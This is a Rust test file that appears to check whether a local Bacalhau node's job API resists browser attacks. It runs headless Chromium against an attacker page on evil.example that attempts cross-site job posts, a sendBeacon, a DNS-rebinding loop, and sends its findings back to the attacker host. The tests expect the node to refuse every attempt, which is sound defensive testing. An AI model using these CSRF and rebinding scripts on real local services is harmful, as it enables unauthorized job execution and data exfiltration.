//! The same in a real browser, where one is installed: what it sends is its own, and not what a test believes.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, RecvTimeoutError, Sender, channel};
use std::thread;
use std::time::Duration;

use serde_json::Value;

use super::{is_without_jobs, job, port};
use bacalhau_testkit::{BOUND, Lab};

/// Flags of every browser.
pub(super) const FLAGS: &str = "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking \
     --disable-component-update --disable-sync --disable-dev-shm-usage";

/// The name of an installed browser. `None`, with a message, where there is none.
pub(super) fn program() -> Option<&'static str> {
    let name = ["chromium", "chromium-browser", "google-chrome"].into_iter().find(|name| {
        std::env::var_os("PATH").is_some_and(|path| std::env::split_paths(&path).any(|dir| dir.join(name).exists()))
    });
    if name.is_none() {
        println!("skipped: neither chromium nor google-chrome is installed");
    }
    name
}

/// A browser that shows a page, until it is dropped.
struct Browser(Child);

impl Browser {
    /// Opens `url`. Names of `evil.example` are of this machine. `None` where there is no browser.
    fn open(lab: &Lab, url: &str) -> Option<Self> {
        let mut command = Command::new(program()?);
        command.args(FLAGS.split_whitespace()).arg(format!("--user-data-dir={}", lab.path("browser").display()));
        command.arg("--host-resolver-rules=MAP evil.example 127.0.0.1").arg("--remote-debugging-port=0").arg(url);
        command.env("HOME", lab.path("home")).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
        Some(Self(command.spawn().unwrap()))
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A web server of the attacker's: any GET is answered by `page`, what is posted is handed on. It ends with `stop`.
fn site(listener: TcpListener, page: String, told: Sender<Value>, stop: Receiver<()>) -> thread::JoinHandle<()> {
    listener.set_nonblocking(true).unwrap();
    thread::spawn(move || {
        while stop.try_recv() != Err(std::sync::mpsc::TryRecvError::Disconnected) {
            match listener.accept() {
                Ok((stream, _)) => {
                    let (page, told) = (page.clone(), told.clone());
                    thread::spawn(move || answer(stream, &page, &told));
                }
                Err(_) => thread::sleep(Duration::from_millis(10)),
            }
        }
    })
}

fn answer(mut stream: TcpStream, page: &str, told: &Sender<Value>) {
    stream.set_nonblocking(false).unwrap();
    // A browser opens connections that it may never use.
    stream.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let (mut first, mut length) = (String::new(), 0);
    let Ok(1..) = reader.read_line(&mut first) else { return };
    loop {
        let mut line = String::new();
        let Ok(3..) = reader.read_line(&mut line) else { break };
        if let Some(value) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            length = value.trim().parse().unwrap();
        }
    }
    let mut body = vec![0; length];
    let body = reader.read_exact(&mut body).map(|()| body).unwrap_or_default();
    if first.starts_with("POST") {
        let _ = told.send(serde_json::from_slice(&body).unwrap());
    }
    let kind = "Content-Type: text/html\r\nConnection: close";
    let _ = write!(stream, "HTTP/1.1 200 OK\r\n{kind}\r\nContent-Length: {}\r\n\r\n{page}", page.len());
}

/// A page that runs `script`, where `api`, `job`, `tell` and `attempt` are defined.
fn page(api: &str, home: u16, script: &str) -> String {
    let job = serde_json::to_string(&job()).unwrap();
    format!(
        "<!doctype html><script>
        const api = {api:?}, job = {job};
        const tell = what => fetch('http://evil.example:{home}/', {{method: 'POST', mode: 'no-cors', body: JSON.stringify(what)}});
        const attempt = async make => {{
            try {{ const got = await make(); return got.text ? [got.type, got.status, await got.text()] : got; }}
            catch (error) {{ return String(error); }}
        }};
        const post = (kind, mode) => fetch(api + '/api/v1/jobs', {{method: 'POST', mode, headers: {{'content-type': kind}}, body: job}});
        (async () => {{ {script} }})();
        </script>"
    )
}

fn wait(told: &Receiver<Value>) -> Value {
    match told.recv_timeout(BOUND) {
        Ok(value) => value,
        Err(RecvTimeoutError::Timeout | RecvTimeoutError::Disconnected) => panic!("the page says nothing"),
    }
}

fn listener() -> (TcpListener, u16) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    (listener, port)
}

#[test]
fn a_browser_shows_a_page_that_posts_jobs_to_loopback() {
    let lab = Lab::new();
    let node = lab.serve("node", "");
    let (listener, home) = listener();
    let script = "tell({
        text: await attempt(() => post('text/plain', 'no-cors')),
        json: await attempt(() => post('application/json', 'cors')),
        beacon: await attempt(() => navigator.sendBeacon(api + '/api/v1/jobs', job)),
        read: await attempt(() => fetch(api + '/api/v1/jobs')),
    });";
    let (tell, told) = channel();
    let (_stop, stopped) = channel();
    site(listener, page(&node.api, home, script), tell, stopped);
    let Some(_browser) = Browser::open(&lab, &format!("http://evil.example:{home}/")) else { return };
    let said = wait(&told);
    assert!(said["read"].as_str().is_some_and(|error| error.contains("TypeError")), "{said}");
    assert!(said["json"].as_str().is_some_and(|error| error.contains("TypeError")), "{said}");
    // What a page may send without asking, it has sent: it reached the node.
    assert_eq!(said["text"], serde_json::json!(["opaque", 0, ""]), "{said}");
    assert_eq!(said["beacon"], true, "{said}");
    let refused = || {
        let metrics = super::ask(&node, "GET /metrics", &["Host: localhost"], "");
        metrics.lines().filter(|line| line.contains("status=\"403\"")).count()
    };
    bacalhau_testkit::until("the beacon is refused", || refused() > 0);
    assert!(is_without_jobs(&node), "{said}");
}

#[test]
fn a_browser_shows_a_page_whose_name_is_rebound_to_loopback() {
    let lab = Lab::new();
    let (rebound, api) = listener();
    let (listener, home) = listener();
    // The page asks its own origin, at which the node answers before long.
    let script = "tell('ready'); for (;;) {
        const got = await attempt(() => fetch(api + '/api/v1/node'));
        if (Array.isArray(got) && !got[2].startsWith('<!doctype')) {
            return tell({read: got, json: await attempt(() => post('application/json', 'cors'))});
        }
        await new Promise(done => setTimeout(done, 100));
    }";
    let (tell, told) = channel();
    let (_stop, stopped) = channel();
    let (end, ended) = channel();
    let text = page("", home, script);
    site(listener, text.clone(), tell.clone(), stopped);
    let first = site(rebound, text, tell, ended);
    let Some(_browser) = Browser::open(&lab, &format!("http://evil.example:{api}/")) else { return };
    assert_eq!(wait(&told), "ready");
    drop(end);
    first.join().unwrap();
    let node = lab.node("node", &format!("serve --host 127.0.0.1 --swarm-port 0 --api-port {api} --data-dir node"));
    assert_eq!(port(&node), api);
    let said = wait(&told);
    assert_eq!((&said["read"][1], &said["json"][1]), (&403.into(), &403.into()), "{said}");
    assert!(said["read"][2].as_str().unwrap().contains("api.allowed_hosts"), "{said}");
    assert!(is_without_jobs(&node), "{said}");
}
